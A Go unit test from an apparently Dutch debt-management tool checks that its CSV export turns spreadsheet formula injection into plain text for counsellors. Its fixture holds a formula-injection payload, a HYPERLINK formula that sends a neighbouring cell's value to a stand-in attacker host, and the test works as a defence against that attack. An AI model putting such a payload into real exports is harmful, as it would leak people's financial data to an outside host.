package helper

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"regie/wallet"
)

// TestExportCSVNeutralisesFormulas: a statement id, reference or creditor
// that a spreadsheet would read as a formula (from a dossier made before
// ids were checked on import) reaches the counsellor's CSV as text.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	evil := `=HYPERLINK("http://evil.example/"&A2,"Klik")`
	e := Export{Debts: []DebtExport{{
		Debt:   wallet.Debt{Reference: "+31-1", Creditor: "@Creditor", Category: wallet.CategoryFine, Status: wallet.StatusOpen},
		AsOf:   "2026-11-20",
		Source: Provenance{Organisation: "cjib", Name: "-CJIB", Statement: evil, KeyID: "\tk1"},
	}}}
	raw, err := e.CSV()
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 {
		t.Fatalf("rows = %d", len(rows))
	}
	for i, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("column %s = %q starts a formula", CSVHeader[i], cell)
		}
	}
	if !strings.Contains(string(raw), `'=HYPERLINK`) {
		t.Errorf("statement id not kept as text:\n%s", raw)
	}
}
